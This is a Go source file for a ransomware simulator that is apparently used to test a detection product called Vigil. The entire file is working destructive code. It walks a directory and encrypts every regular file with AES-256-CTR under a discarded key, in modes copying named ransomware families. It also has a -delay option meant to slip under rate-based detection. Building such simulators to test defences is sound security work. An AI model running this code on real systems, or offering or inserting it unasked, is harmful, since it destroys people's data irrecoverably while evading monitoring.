// Command ransomsim is a ransomware simulator for Vigil's tests: it encrypts
// every regular file below a directory with AES-256-CTR under a random key
// (which it throws away), the way real families do, and prints each file it
// finished, one per line, so the test can count how far it got.
//
// Variants (-mode):
//
//	inplace  read the file, rewrite it with its ciphertext (O_TRUNC), then
//	         rename it to NAME.EXT (LockBit, Conti)
//	newdel   write the ciphertext to NAME.EXT, then unlink the original (WannaCry)
//	rename   rename to NAME.EXT first, then rewrite it in place (Ryuk)
//
// -delay sleeps between files (slow mode, to stay under rate thresholds).
// Run it only on a directory made for it: it destroys what it encrypts.
package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"time"
)

func main() {
	mode := flag.String("mode", "inplace", "inplace, newdel or rename")
	ext := flag.String("ext", ".locked", "extension added to encrypted files")
	delay := flag.Duration("delay", 0, "pause between files")
	flag.Parse()
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: ransomsim [-mode inplace|newdel|rename] [-delay D] DIR")
		os.Exit(2)
	}
	key := make([]byte, 32)
	if _, err := rand.Read(key); err != nil {
		fail(err)
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		fail(err)
	}
	var files []string
	err = filepath.WalkDir(flag.Arg(0), func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			files = append(files, p)
		}
		return err
	})
	if err != nil {
		fail(err)
	}
	sort.Strings(files)
	for _, p := range files {
		if err := encrypt(block, p, *ext, *mode); err != nil {
			fail(err)
		}
		fmt.Println(p)
		if *delay > 0 {
			time.Sleep(*delay)
		}
	}
}

func encrypt(block cipher.Block, p, ext, mode string) error {
	if mode == "rename" {
		if err := os.Rename(p, p+ext); err != nil {
			return err
		}
		p += ext
	}
	plain, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	iv := make([]byte, aes.BlockSize)
	if _, err := rand.Read(iv); err != nil {
		return err
	}
	out := make([]byte, len(plain))
	cipher.NewCTR(block, iv).XORKeyStream(out, plain)
	out = append(out, iv...) // trailer, as many families keep the IV
	switch mode {
	case "inplace":
		if err := os.WriteFile(p, out, 0o644); err != nil {
			return err
		}
		return os.Rename(p, p+ext)
	case "newdel":
		if err := os.WriteFile(p+ext, out, 0o644); err != nil {
			return err
		}
		return os.Remove(p)
	case "rename":
		return os.WriteFile(p, out, 0o644)
	}
	return fmt.Errorf("unknown mode %q", mode)
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "ransomsim:", err)
	os.Exit(1)
}
